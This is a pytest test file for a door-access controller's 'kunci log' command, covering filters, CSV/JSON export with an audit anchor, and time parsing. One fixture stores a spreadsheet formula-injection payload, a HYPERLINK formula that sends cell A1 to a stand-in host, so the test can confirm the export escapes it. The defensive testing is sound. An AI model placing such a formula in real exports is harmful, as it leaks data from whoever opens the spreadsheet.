"""``kunci log``: filters, table, CSV/JSON export with anchor and formula escaping, time arguments."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from controller.store import audit
from controller.cli import main
from controller.cli.log_cmd import parse_time
from controller.store.db import open_database, session_factory
from controller.errors import InvalidInput
from controller.paths import DataDir

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=timezone.utc)
JAKARTA = ZoneInfo("Asia/Jakarta")


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def data(tmp_path: Path, capsys) -> Path:
    d = tmp_path / "data"
    assert run(capsys, "init", "--data", str(d))[0] == 0
    assert run(capsys, "user", "add", "--name", "Siti Rahma", "--agreement-signed", "today", "--data", str(d))[0] == 0
    engine = open_database(DataDir(d))
    with session_factory(engine)() as session, session.begin():
        audit.record(session, "access.granted", reason="granted", method="pin", user="U0001", door="main")
        audit.record(session, "access.denied", reason="unknown_credential", method="pin", door="main")
        # A hostile value in a free-text field must come out inert in a spreadsheet.
        audit.record(session, "access.denied", reason='=HYPERLINK("http://x?"&A1)', method="pin", door="main")
    engine.dispose()
    return d


def test_table_newest_first_with_codes_only(capsys, data: Path) -> None:
    rc, out, _ = run(capsys, "log", "--data", str(data))
    lines = out.splitlines()
    assert rc == 0 and lines[0].startswith("SEQ")
    assert "access.denied" in lines[1] and "admin.user_added" in lines[-1]
    assert "U0001" in out and "Siti" not in out


def test_filters(capsys, data: Path) -> None:
    _, out, _ = run(capsys, "log", "--result", "denied", "--data", str(data))
    assert out.count("access.denied") == 2 and "granted" not in out
    _, out, _ = run(capsys, "log", "--user", "u0001", "--type", "access.*", "--data", str(data))
    assert out.count("access.granted") == 1 and "admin." not in out
    _, out, _ = run(capsys, "log", "--since", "1h", "--limit", "1", "--data", str(data))
    assert len(out.splitlines()) == 2
    _, out, _ = run(capsys, "log", "--until", "2000-01-01", "--data", str(data))
    assert out.strip() == "no events match"


def test_csv_export_anchor_and_escaping(capsys, data: Path) -> None:
    _, head_out, _ = run(capsys, "audit", "head", "--data", str(data))
    rc, out, _ = run(capsys, "log", "--format", "csv", "--data", str(data))
    rows = list(csv.reader(io.StringIO(out)))
    seq, mac = head_out.split()[1:3]
    assert rows[0][0].startswith(f"# kunci events export; anchor {seq} {mac}")
    assert rows[1] == ["seq", "time", "type", "reason", "method", "user", "door", "actor", "score", "detail"]
    assert ['\'=HYPERLINK("http://x?"&A1)'] == [r[3] for r in rows[2:] if "HYPERLINK" in r[3]]
    assert "Siti" not in out


def test_json_export(capsys, data: Path) -> None:
    rc, out, _ = run(capsys, "log", "--format", "json", "--result", "granted", "--data", str(data))
    lines = [json.loads(line) for line in out.splitlines()]
    assert rc == 0 and "anchor" in lines[0] and lines[0]["filters"] == {"result": "granted"}
    assert [(e["type"], e["user"]) for e in lines[1:]] == [("access.granted", "U0001")]


def test_bad_time_is_one_line_error(capsys, data: Path) -> None:
    rc, out, err = run(capsys, "log", "--since", "last tuesday", "--data", str(data))
    assert rc == 2 and out == "" and err.count("\n") == 1


@pytest.mark.parametrize(
    "text, end_of_day, expected",
    [
        ("24h", False, NOW - timedelta(hours=24)),
        ("7d", False, NOW - timedelta(days=7)),
        ("90m", False, NOW - timedelta(minutes=90)),
        ("2w", False, NOW - timedelta(weeks=2)),
        ("2026-03-01", False, datetime(2026, 3, 1, tzinfo=JAKARTA)),
        ("2026-03-01", True, datetime(2026, 3, 2, tzinfo=JAKARTA)),
        ("2026-03-01T08:30", False, datetime(2026, 3, 1, 8, 30, tzinfo=JAKARTA)),
        ("2026-03-01T08:30:00Z", False, datetime(2026, 3, 1, 8, 30, tzinfo=timezone.utc)),
    ],
)
def test_parse_time(text, end_of_day, expected) -> None:
    assert parse_time(text, JAKARTA, NOW, end_of_day=end_of_day) == expected


@pytest.mark.parametrize("text", ["yesterday", "24", "h", "2026-13-01", "-5d", ""])
def test_parse_time_refuses(text) -> None:
    with pytest.raises(InvalidInput):
        parse_time(text, JAKARTA, NOW)
